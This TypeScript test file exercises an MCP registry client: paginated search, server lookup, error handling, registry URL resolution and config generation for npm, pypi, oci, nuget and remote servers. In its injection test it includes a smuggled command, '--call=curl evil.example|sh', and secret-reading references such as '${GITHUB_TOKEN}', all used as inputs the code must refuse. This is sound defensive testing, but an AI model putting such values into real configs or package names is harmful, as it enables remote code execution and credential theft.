// The registry client against a stand-in registry on 127.0.0.1 (mcp-test-utils' startRegistry: the
// v0.1 read paths) serving real server.json documents from the registry repository's examples
// (credited in tools/test-utils/src/registry-examples.ts), and configFromRegistry on each of them.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePort, registryExamples as ex, startRegistry, type StandInRegistry } from "mcp-test-utils";
import { loadAllMCPConfigs } from "@mcp/manager";
import {
  compareVersions,
  configFromRegistry,
  DEFAULT_REGISTRY_URL,
  getRegistryServer,
  RegistryError,
  registryStatus,
  resolveRegistry,
  searchRegistry,
  type RegistryEntry,
  type RegistryServer,
} from "../src/index.js";

let registry: StandInRegistry;
const root = mkdtempSync(join(tmpdir(), "mcp-registry-"));
beforeAll(async () => {
  registry = await startRegistry();
});
afterAll(async () => {
  await registry.close();
  rmSync(root, { recursive: true, force: true });
});

const doc = (server: object): RegistryServer => server as RegistryServer;
async function all(text: string, options: Parameters<typeof searchRegistry>[1] = {}): Promise<RegistryEntry[]> {
  const found: RegistryEntry[] = [];
  for await (const entry of searchRegistry(text, { registry: registry.url, ...options })) found.push(entry);
  return found;
}
async function failure(promise: Promise<unknown>): Promise<RegistryError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(RegistryError);
  return error as RegistryError;
}

describe("searchRegistry", () => {
  it("follows the cursor through every page, latest versions only, the registry's status carried through", async () => {
    const before = registry.requests.length;
    const found = await all("");
    const asked = registry.requests.slice(before);
    expect(asked).toHaveLength(3); // 13 latest entries, 5 a page
    expect(asked.map((url) => url.searchParams.get("version"))).toEqual(["latest", "latest", "latest"]);
    expect(asked[0]!.searchParams.get("cursor")).toBeNull();
    expect(asked[1]!.searchParams.get("cursor")).not.toBeNull();
    expect(found.map((e) => e.server.name)).toHaveLength(13);
    expect(found.find((e) => e.server.name === "io.github.joelverhagen/knapcode-samplemcpserver")?.server.version).toBe(
      "0.5.0",
    );
    const fs = found.find((e) => e.server.name === "io.modelcontextprotocol.anonymous/mcp-fs")!;
    expect(registryStatus(fs)).toBe("deprecated");
    expect(registryStatus(found.find((e) => e.server.name.endsWith("/embedded-mcp"))!)).toBe("deleted");
    expect(registryStatus(found[0]!)).toBe("active");
    // The documents whole, as the registry sent them.
    expect(found.find((e) => e.server.name === ex.remoteWeather.name)!.server).toEqual(ex.remoteWeather);
  });

  it("asks for no further page once the caller stops", async () => {
    const before = registry.requests.length;
    const names: string[] = [];
    for await (const entry of searchRegistry("", { registry: registry.url })) {
      names.push(entry.server.name);
      if (names.length === 6) break;
    }
    expect(registry.requests.length - before).toBe(2);
  });

  it("passes the search text and the page size; every version with version: false", async () => {
    const weather = await all("WEATHER", { pageSize: 2 });
    expect(weather.map((e) => e.server.name).sort()).toEqual([
      "io.github.example/weather-mcp",
      "io.github.user/local-weather",
      "io.github.user/remote-weather",
    ]);
    expect(registry.requests.at(-1)!.searchParams.get("limit")).toBe("2");
    expect(registry.requests.at(-1)!.searchParams.get("search")).toBe("WEATHER");
    expect((await all("knapcode", { version: false })).map((e) => e.server.version)).toEqual(["0.4.0-beta", "0.5.0"]);
  });

  it("refuses a cursor sent twice instead of looping", async () => {
    const loop = await startRegistry({
      override: (url) =>
        url.pathname === "/v0.1/servers"
          ? {
              status: 200,
              body: JSON.stringify({ servers: [{ server: ex.everything }], metadata: { nextCursor: "same" } }),
            }
          : undefined,
    });
    try {
      const error = await failure(all("", { registry: loop.url }));
      expect(error.reason).toBe("invalid_response");
      expect(error.message).toContain('sent the cursor "same" twice');
      expect(loop.requests).toHaveLength(2);
    } finally {
      await loop.close();
    }
  });
});

describe("getRegistryServer", () => {
  it("gets the latest version, or the one asked for, by URL-encoded name", async () => {
    const latest = await getRegistryServer("io.github.joelverhagen/knapcode-samplemcpserver", undefined, {
      registry: registry.url,
    });
    expect(latest.server.version).toBe("0.5.0");
    expect(registry.requests.at(-1)!.pathname).toBe(
      "/v0.1/servers/io.github.joelverhagen%2Fknapcode-samplemcpserver/versions/latest",
    );
    const old = await getRegistryServer("io.github.joelverhagen/knapcode-samplemcpserver", "0.4.0-beta", {
      registry: registry.url,
    });
    expect(old.server.packages?.[0]?.packageArguments).toHaveLength(2);
    expect(old._meta?.["io.modelcontextprotocol.registry/official"]?.isLatest).toBe(false);
  });

  it("an unknown name or version is not_found, naming the registry asked", async () => {
    const error = await failure(getRegistryServer("io.github.nobody/nothing", "latest", { registry: registry.url }));
    expect(error).toMatchObject({ code: "registry_error", reason: "not_found", status: 404, registry: registry.url });
    expect(error.message).toBe(`the registry ${registry.url} has no server named "io.github.nobody/nothing"`);
    expect(
      (await failure(getRegistryServer(ex.everything.name, "0.0.1", { registry: registry.url }))).message,
    ).toContain(`no version 0.0.1 of "${ex.everything.name}"`);
  });
});

describe("a registry that misbehaves", () => {
  let bad: StandInRegistry;
  let answer: { status: number; body: string } | undefined;
  beforeAll(async () => {
    bad = await startRegistry({ override: () => answer });
  });
  afterAll(() => bad.close());
  const get = (options: Parameters<typeof getRegistryServer>[2] = {}): Promise<RegistryError> =>
    failure(getRegistryServer(ex.everything.name, "latest", { registry: bad.url, ...options }));

  it("each failure is a typed error that says what and where", async () => {
    answer = { status: 500, body: JSON.stringify({ title: "Internal Server Error", detail: "database\u0000 down" }) };
    const http = await get();
    expect(http).toMatchObject({ reason: "http", status: 500 });
    expect(http.message).toBe(
      `the registry ${bad.url} answered HTTP 500 to /v0.1/servers/${encodeURIComponent(ex.everything.name)}/versions/latest: database down`,
    );
    answer = { status: 200, body: "<html>maintenance</html>" };
    expect((await get()).reason).toBe("invalid_response");
    answer = { status: 200, body: JSON.stringify({ server: { name: ex.everything.name } }) };
    expect((await get()).message).toContain("the answer.server.version is not a string");
    answer = { status: 200, body: JSON.stringify({ server: ex.braveSearch }) };
    expect((await get()).message).toContain(
      `was asked for "${ex.everything.name}" and answered with "${ex.braveSearch.name}"`,
    );
    answer = {
      status: 200,
      body: JSON.stringify({ servers: [{ server: ex.everything }, { server: { version: "1" } }] }),
    };
    expect((await failure(all("", { registry: bad.url }))).message).toContain(
      "page 1, servers[1].server.name is not a string",
    );
    answer = { status: 200, body: JSON.stringify({ servers: "none" }) };
    expect((await failure(all("", { registry: bad.url }))).message).toContain('without a "servers" list');
    answer = { status: 200, body: JSON.stringify({ server: ex.everything, padding: "x".repeat(4096) }) };
    expect(await get({ maxBytes: 1024 })).toMatchObject({ reason: "too_large" });
    answer = undefined;
  });

  it("a registry that is not there is a network error; one that never answers times out; the caller's abort is the caller's", async () => {
    const port = await freePort();
    expect(await failure(getRegistryServer("a/b", "latest", { registry: `http://127.0.0.1:${port}` }))).toMatchObject({
      reason: "network",
      registry: `http://127.0.0.1:${port}`,
    });
    const silent: Server = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(silent.address() as { port: number }).port}`;
    try {
      expect(await failure(getRegistryServer("a/b", "latest", { registry: url, timeout: 200 }))).toMatchObject({
        reason: "timeout",
      });
      const controller = new AbortController();
      const reason = new Error("stop");
      const pending = getRegistryServer("a/b", "latest", { registry: url, signal: controller.signal });
      controller.abort(reason);
      await expect(pending).rejects.toBe(reason);
    } finally {
      silent.closeAllConnections();
      await new Promise((resolve) => silent.close(resolve));
    }
  });
});

describe("resolveRegistry", () => {
  const home = join(root, "home");
  const userFile = join(home, ".config", "mcp-client", "mcp-client.json");
  beforeAll(() => {
    mkdirSync(join(home, ".config", "mcp-client"), { recursive: true });
  });

  it("takes the option, else MCP_REGISTRY_URL, else the user's own file, else the official registry", async () => {
    const env = { XDG_CONFIG_HOME: join(home, ".config") };
    expect(await resolveRegistry({ home, env, platform: "linux" })).toEqual({
      url: DEFAULT_REGISTRY_URL,
      source: "default",
    });
    writeFileSync(userFile, '// mine\n{ "registry": "https://registry.example.com/mcp/", "servers": {} }');
    expect(await resolveRegistry({ home, env, platform: "linux" })).toEqual({
      url: "https://registry.example.com/mcp",
      source: userFile,
    });
    expect(
      await resolveRegistry({ home, env: { ...env, MCP_REGISTRY_URL: "http://127.0.0.1:9/" }, platform: "linux" }),
    ).toEqual({ url: "http://127.0.0.1:9", source: "MCP_REGISTRY_URL" });
    expect(
      await resolveRegistry({
        home,
        env: { ...env, MCP_REGISTRY_URL: "http://127.0.0.1:9" },
        registry: "https://sub.example.org",
      }),
    ).toEqual({ url: "https://sub.example.org", source: "option" });
  });

  it("reads a project's file only when asked to, and a bad value is an error naming where it came from", async () => {
    const project = join(root, "project");
    mkdirSync(project, { recursive: true });
    writeFileSync(join(project, "mcp-client.json"), JSON.stringify({ registry: "https://evil.example" }));
    const env = { XDG_CONFIG_HOME: join(root, "nowhere") };
    expect((await resolveRegistry({ home, env, cwd: project, platform: "linux" })).url).toBe(DEFAULT_REGISTRY_URL);
    expect((await resolveRegistry({ home, env, cwd: project, files: ["mcp-client.json"] })).url).toBe(
      "https://evil.example",
    );
    const ftp = await failure(resolveRegistry({ env: { MCP_REGISTRY_URL: "ftp://x" } }));
    expect(ftp.reason).toBe("invalid_url");
    expect(ftp.message).toBe('MCP_REGISTRY_URL must be an http(s) URL, got "ftp://x/"');
    const withPassword = await failure(resolveRegistry({ registry: "https://me:hunter2@registry.example" }));
    expect(withPassword.message).toContain("must not carry a user name or password");
    expect(withPassword.message).not.toContain("hunter2");
    writeFileSync(join(project, "bad.json"), '{ "registry": 42 }');
    expect((await failure(resolveRegistry({ env: {}, cwd: project, files: ["bad.json"] }))).message).toBe(
      `"registry" in ${join(project, "bad.json")} must be an http(s) URL, got 42`,
    );
  });
});

describe("configFromRegistry", () => {
  it("npm: npx -y <identifier>@<version>, a secret as a ${VAR} reference", () => {
    const made = configFromRegistry(doc(ex.braveSearch));
    expect(made).toMatchObject({
      kind: "npm",
      version: "1.0.2",
      config: {
        command: "npx",
        args: ["-y", "@modelcontextprotocol/server-brave-search@1.0.2"],
        env: { BRAVE_API_KEY: "${BRAVE_API_KEY}" },
      },
    });
    expect(made.variables).toEqual([
      {
        name: "BRAVE_API_KEY",
        input: "environment variable BRAVE_API_KEY",
        required: true,
        secret: true,
        description: "Brave Search API Key",
        inEntry: true,
      },
    ]);
  });

  it("npm with arguments: positional and named in order, fixed values kept, optional ones left out unless given", () => {
    const plain = configFromRegistry(doc(ex.localWeather));
    expect(plain.config).toEqual({
      command: "npx",
      args: ["-y", "@modelcontextprotocol/server-weather@1.0.0", "--port", "8080"],
      env: { API_KEY: "${API_KEY}" },
    });
    expect(plain.variables.map((v) => [v.name, v.required, v.inEntry])).toEqual([
      ["API_KEY", true, true],
      ["LOCAL_WEATHER_CONFIG_PATH", false, false],
    ]);
    const given = configFromRegistry(doc(ex.localWeather), { values: { config_path: "/etc/weather.json" } });
    expect(given.config).toMatchObject({
      args: ["-y", "@modelcontextprotocol/server-weather@1.0.0", "/etc/weather.json", "--port", "8080"],
    });
    expect(() => configFromRegistry(doc(ex.localWeather), { values: { "--port": "9" } })).toThrow(
      "argument --port has a value set by the registry",
    );
    const fs = configFromRegistry(doc(ex.filesystem), { values: { target_dir: ["/srv/a", "/srv/b"] } });
    expect(fs.config).toEqual({
      command: "npx",
      args: ["-y", "@modelcontextprotocol/server-filesystem@1.0.2", "/srv/a", "/srv/b"],
      env: { LOG_LEVEL: "info" },
    });
    expect(configFromRegistry(doc(ex.filesystem)).config).toMatchObject({
      args: ["-y", "@modelcontextprotocol/server-filesystem@1.0.2", "/Users/username/Desktop"],
    });
    expect(configFromRegistry(doc(ex.hybrid), { values: { mode: "cached" } }).config).toMatchObject({
      args: ["-y", "@example/hybrid-mcp-server@1.5.0", "--mode", "cached"],
    });
    expect(() => configFromRegistry(doc(ex.hybrid), { values: { "--mode": "fast" } })).toThrow(
      "argument --mode must be one of local, cached, proxy",
    );
  });

  it("pypi: uvx <identifier>==<version>; defaults written, secrets referenced", () => {
    expect(configFromRegistry(doc(ex.weather)).config).toEqual({
      command: "uvx",
      args: ["weather-mcp-server==0.5.0"],
      env: { WEATHER_API_KEY: "${WEATHER_API_KEY}", WEATHER_UNITS: "celsius" },
    });
  });

  it("oci: docker run -i --rm, runtime arguments with their variables, -e for each environment variable, then the image and its arguments", () => {
    const made = configFromRegistry(doc(ex.databaseManager), {
      values: { db_type: "postgres", database_name: "app", DB_USERNAME: "me", "--port": "5432" },
    });
    expect(made.config).toEqual({
      command: "docker",
      args: [
        "run",
        "-i",
        "--rm",
        "--network",
        "host",
        "-e",
        "DB_TYPE=postgres",
        "-e",
        "DB_USERNAME",
        "-e",
        "DB_PASSWORD",
        "-e",
        "SSL_MODE",
        "docker.io/example/database-manager-mcp:3.1.0",
        "--host",
        "localhost",
        "--port",
        "5432",
        "app",
      ],
      env: { DB_USERNAME: "me", DB_PASSWORD: "${DB_PASSWORD}", SSL_MODE: "prefer" },
    });
    const bare = configFromRegistry(doc(ex.databaseManager));
    expect(bare.config).toMatchObject({
      args: expect.arrayContaining(["DB_TYPE=${DATABASE_MANAGER_DB_TYPE}", "${DATABASE_MANAGER_DATABASE_NAME}"]),
    });
    expect(bare.variables.filter((v) => v.required).map((v) => v.name)).toEqual([
      "DATABASE_MANAGER_DB_TYPE",
      "DATABASE_MANAGER_DATABASE_NAME",
      "DB_USERNAME",
      "DB_PASSWORD",
    ]);
    expect(
      configFromRegistry(doc(ex.filesystem), { package: "oci", values: { source_path: "/home/me/work" } }).config,
    ).toEqual({
      command: "docker",
      args: [
        "run",
        "-i",
        "--rm",
        "--mount",
        "type=bind,src=/home/me/work,dst=/project",
        "-e",
        "LOG_LEVEL",
        "docker.io/mcp/filesystem:1.0.2",
        "/project",
      ],
      env: { LOG_LEVEL: "info" },
    });
  });

  it("nuget: dnx <identifier>@<version> --yes, package arguments after --", () => {
    expect(configFromRegistry(doc(ex.knapcodeOld)).config).toEqual({
      command: "dnx",
      args: ["Knapcode.SampleMcpServer@0.4.0-beta", "--yes", "--", "mcp", "start"],
    });
    expect(configFromRegistry(doc(ex.knapcode)).config).toEqual({
      command: "dnx",
      args: ["Knapcode.SampleMcpServer@0.5.0", "--yes"],
      env: { WEATHER_CHOICES: "${WEATHER_CHOICES}" },
    });
  });

  it("remotes: URL variables filled, a secret header referenced, the transport chosen", () => {
    const made = configFromRegistry(doc(ex.remoteWeather));
    expect(made).toMatchObject({
      kind: "remote",
      config: {
        type: "http",
        url: "https://api.example.com/mcp",
        headers: { Authorization: "${REMOTE_WEATHER_AUTHORIZATION}" },
      },
    });
    expect(
      configFromRegistry(doc(ex.remoteWeather), { values: { host: "eu.weather.example" }, name: "wx" }).config,
    ).toEqual({
      type: "http",
      url: "https://eu.weather.example/mcp",
      headers: { Authorization: "${WX_AUTHORIZATION}" },
    });
    expect(configFromRegistry(doc(ex.hybrid), { package: "remote" }).config).toEqual({
      type: "http",
      url: "https://mcp.anonymous.modelcontextprotocol.io/http",
      headers: { "X-API-Key": "${HYBRID_MCP_X_API_KEY}", "X-Region": "us-east-1" },
    });
    expect(configFromRegistry(doc(ex.hybrid), { package: "remote", transport: "sse" }).config).toEqual({
      type: "sse",
      url: "https://mcp.anonymous.modelcontextprotocol.io/sse",
    });
    expect(configFromRegistry(doc(ex.mcpFs)).config).toEqual({
      type: "http",
      url: "https://mcp-fs.anonymous.modelcontextprotocol.io/http",
    });
  });

  it("a package that serves HTTP: the entry connects to it, and start says how to run it", () => {
    const server = doc({
      name: "io.github.example/configurable-server",
      description: "Local MCP server with configurable port",
      version: "1.0.0",
      packages: [
        {
          registryType: "npm",
          identifier: "@example/mcp-server",
          version: "1.0.0",
          transport: { type: "streamable-http", url: "http://localhost:{--port}/mcp" },
          packageArguments: [
            { type: "named", name: "--port", description: "Port for the server to listen on", default: "3000" },
          ],
        },
      ],
    });
    expect(configFromRegistry(server, { values: { port: "8080" } })).toMatchObject({
      config: { type: "http", url: "http://localhost:8080/mcp" },
      start: { command: "npx", args: ["-y", "@example/mcp-server@1.0.0", "--port", "8080"] },
    });
    // A port nobody gave: a reference in the URL and the command alike.
    const required = doc({
      ...server,
      packages: [{ ...server.packages![0]!, packageArguments: [{ type: "named", name: "--port", isRequired: true }] }],
    });
    expect(configFromRegistry(required)).toMatchObject({
      config: { url: "http://localhost:${CONFIGURABLE_SERVER_PORT}/mcp" },
      start: { args: ["-y", "@example/mcp-server@1.0.0", "--port", "${CONFIGURABLE_SERVER_PORT}"] },
    });
  });

  it("a secret is never taken as a value, and no input is made up", () => {
    const secret = (() => {
      try {
        configFromRegistry(doc(ex.remoteWeather), { values: { Authorization: "Bearer hunter2" } });
      } catch (error) {
        return error as RegistryError;
      }
    })();
    expect(secret).toMatchObject({ reason: "secret_value" });
    expect(secret!.message).toBe(
      "header Authorization is a secret: it is never written to a config file. Set REMOTE_WEATHER_AUTHORIZATION in the environment instead; the entry reads it as ${REMOTE_WEATHER_AUTHORIZATION}",
    );
    expect(() => configFromRegistry(doc(ex.databaseManager), { values: { DB_PASSWORD: "pw" } })).toThrow(
      "environment variable DB_PASSWORD is a secret",
    );
    expect(() => configFromRegistry(doc(ex.braveSearch), { values: { BRAVE_KEY: "x" } })).toThrow(
      /has no input named "BRAVE_KEY"; its inputs without a value: environment variable BRAVE_API_KEY/,
    );
    expect(
      configFromRegistry(doc(ex.braveSearch), { values: { BRAVE_KEY: "x" }, ignoreUnknownValues: true }),
    ).toMatchObject({ unused: ["BRAVE_KEY"], config: { env: { BRAVE_API_KEY: "${BRAVE_API_KEY}" } } });
  });

  it("a form we cannot run says which the server offers", () => {
    const mcpb = (() => {
      try {
        configFromRegistry(doc(ex.textEditor));
      } catch (error) {
        return error as RegistryError;
      }
    })();
    expect(mcpb).toMatchObject({ reason: "unsupported_package", available: ["mcpb"] });
    expect(mcpb!.message).toBe(
      '"io.modelcontextprotocol/text-editor": no package we can run; it offers mcpb. We run npm, pypi, oci, nuget packages and remotes',
    );
    expect(() => configFromRegistry(doc(ex.braveSearch), { package: "pypi" })).toThrow(
      '"io.modelcontextprotocol.anonymous/brave-search": no pypi package; it offers npm.',
    );
    expect(() => configFromRegistry(doc(ex.weather), { package: "remote" })).toThrow("no remote; it offers pypi.");
    expect(() => configFromRegistry(doc(ex.embedded))).toThrow(
      "it offers no package and no remote (see https://anonymous.modelcontextprotocol.io/embedded-mcp-guide)",
    );
  });

  it("text from the registry never reads the user's environment, and no package name is taken for an option", () => {
    const withArg = (arg: object): RegistryServer =>
      doc({ ...ex.everything, packages: [{ ...ex.everything.packages[0], packageArguments: [arg] }] });
    expect(() => configFromRegistry(withArg({ type: "positional", value: "--token=${GITHUB_TOKEN}" }))).toThrow(
      'holds "${GITHUB_TOKEN}", which the config would fill from your environment; refused',
    );
    // A `$` before a `{variable}` whose default is `{AWS_SECRET_ACCESS_KEY}` would make one: refused too.
    expect(() =>
      configFromRegistry(
        withArg({ type: "positional", value: "${v}", variables: { v: { default: "{AWS_SECRET_ACCESS_KEY}" } } }),
      ),
    ).toThrow('"${AWS_SECRET_ACCESS_KEY}"');
    expect(() =>
      configFromRegistry(
        doc({ ...ex.remoteWeather, remotes: [{ type: "streamable-http", url: "https://x.example/mcp?k=${HOME}" }] }),
      ),
    ).toThrow("refused");
    expect(() =>
      configFromRegistry(
        doc({
          ...ex.everything,
          packages: [{ ...ex.everything.packages[0], identifier: "--call=curl evil.example|sh" }],
        }),
      ),
    ).toThrow("packages[0].identifier is not a npm package name");
    expect(() =>
      configFromRegistry(doc({ ...ex.everything, packages: [{ ...ex.everything.packages[0], version: "latest" }] })),
    ).toThrow("is not an exact version");
    expect(() =>
      configFromRegistry(
        doc({
          ...ex.remoteWeather,
          remotes: [
            {
              type: "streamable-http",
              url: "https://x.example/mcp",
              headers: [{ name: "Mcp-Session-Id", value: "1" }],
            },
          ],
        }),
      ),
    ).toThrow("is not a header a config may set");
    // The user's own references are theirs to write.
    expect(
      configFromRegistry(doc(ex.localWeather), { values: { config_path: "${HOME}/weather.json" } }).config,
    ).toMatchObject({ args: expect.arrayContaining(["${HOME}/weather.json"]) });
  });

  it("what it makes loads, its references filled from the environment", async () => {
    const dir = mkdtempSync(join(root, "load-"));
    const servers = {
      wx: configFromRegistry(doc(ex.remoteWeather), { name: "wx" }).config,
      db: configFromRegistry(doc(ex.databaseManager), {
        name: "db",
        values: { db_type: "mysql", database_name: "app" },
      }).config,
    };
    writeFileSync(join(dir, "mcp-client.json"), JSON.stringify({ servers }));
    const env = { WX_AUTHORIZATION: "Bearer t0k", DB_USERNAME: "me", DB_PASSWORD: "pw" };
    const loaded = await loadAllMCPConfigs(dir, {
      home: dir,
      env,
      extraFiles: [join(dir, "mcp-client.json")],
      families: [],
    });
    expect(loaded.errors).toEqual([]);
    expect(loaded.configs["wx"]).toMatchObject({ headers: { Authorization: "Bearer t0k" } });
    expect(loaded.configs["db"]).toMatchObject({ env: { DB_USERNAME: "me", DB_PASSWORD: "pw", SSL_MODE: "prefer" } });
    const unset = await loadAllMCPConfigs(dir, {
      home: dir,
      env: {},
      extraFiles: [join(dir, "mcp-client.json")],
      families: [],
    });
    expect(unset.errors.map((e) => e.message)).toContainEqual(
      expect.stringContaining('environment variable "WX_AUTHORIZATION" is not set'),
    );
  });
});

describe("compareVersions", () => {
  it("orders semantic versions, pre-releases first; says nothing of others", () => {
    expect(compareVersions("0.5.0", "0.4.0-beta")).toBe(1);
    expect(compareVersions("1.0.0-beta.2", "1.0.0-beta.10")).toBe(-1);
    expect(compareVersions("1.0.0-beta", "1.0.0")).toBe(-1);
    expect(compareVersions("v2.0.0", "2.0.0+build.5")).toBe(0);
    expect(compareVersions("2026.8.31", "2026.10.1")).toBe(-1);
    expect(compareVersions("1.2", "1.3")).toBeUndefined();
  });
});
